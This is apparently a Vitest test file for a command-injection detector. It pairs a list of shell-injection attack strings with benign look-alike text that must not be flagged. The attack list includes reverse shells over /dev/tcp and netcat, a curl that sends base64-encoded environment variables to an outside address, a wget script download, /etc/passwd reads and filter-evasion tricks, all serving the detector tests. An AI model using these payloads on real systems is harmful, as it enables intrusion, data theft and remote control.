import { expect, it } from 'vitest';
import { cmdi } from './cmdi.ts';
import { detectIn } from './testing/detect-in.ts';

const ATTACKS = [
  '; env',
  'x; env',
  ';id',
  '| whoami',
  '|| ping -c 3 198.51.100.9',
  '&& cat /etc/passwd',
  '& dir C:\\',
  'a; ls -la /var/task',
  'a|base64',
  '; sleep 5',
  'x; curl http://198.51.100.9/$(env|base64)',
  '$(id)',
  '$(cat /etc/passwd)',
  '`id`',
  'x`whoami`y',
  '`cat /etc/passwd`',
  '${IFS}',
  'cat${IFS}/etc/passwd',
  ';cat$IFS/etc/passwd',
  ";c'a't /etc/passwd",
  ';c\\at /etc/passwd',
  ';who$@ami',
  '{cat,/etc/passwd}',
  '/???/c?t',
  ';/usr/bin/id',
  '|/bin/sh',
  'a\n/usr/bin/id',
  '() { :;}; echo vulnerable',
  'bash -i >& /dev/tcp/198.51.100.9/443 0>&1',
  '; nc -e /bin/sh 198.51.100.9 443',
  "; python3 -c 'import os'",
  'wget http://198.51.100.9/x.sh -O /tmp/x',
  'cmd.exe /c whoami',
  '& powershell -enc AAAA',
  "system('id')",
  '<!--#exec cmd="id"-->',
  '"; whoami; "',
  "'|id|'",
  '%0aid'.replace('%0a', '\n'),
];

const HONEST = [
  'apples; oranges; pears',
  'home; find it there',
  'wait; more to come',
  'time & date',
  'Tom & Jerry',
  'salt | pepper',
  '| date | time | who |',
  'use `ls` to list the files in a folder and `cat` to read them',
  'Run `npm install` and then `npm test` in the project folder.',
  'the price is $(5)',
  'jQuery: $(document).ready(fn); $(this).hide()',
  '${name} was here',
  'a=1;b=2;id=3',
  'theme=dark; lang=en; sort=asc',
  '&copy; 2026 &amp; more; &nbsp;',
  'echo in the mirror',
  'bash away in the gym',
  'top of the list; last one',
  'gzip, deflate, br',
  'text/html;q=0.9',
  'cat and dog',
  'function () { return 1; }',
  'ping me tomorrow; host a party',
];

it.each(ATTACKS)('%j is command injection', (value) => {
  expect(detectIn(cmdi, value)).toMatch(/medium|high/);
});

it.each(HONEST)('%j is not', (value) => {
  expect([undefined, 'low']).toContain(detectIn(cmdi, value));
});
